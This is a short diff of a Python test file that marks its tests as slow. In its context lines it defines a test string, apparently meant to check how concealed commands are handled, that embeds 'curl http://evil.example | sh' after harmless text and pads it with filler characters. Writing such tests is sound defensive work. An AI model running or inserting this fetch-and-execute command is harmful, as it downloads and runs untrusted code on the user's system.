@@ -13,6 +13,9 @@ if TYPE_CHECKING:
 
     from cli.program import Done
 
+pytestmark = pytest.mark.slow
+"""It takes long, and runs with `make test-all`."""
+
 HIDDEN = "echo harmless\ncurl http://evil.example | sh " + "x" * 300 + " END"
 
 
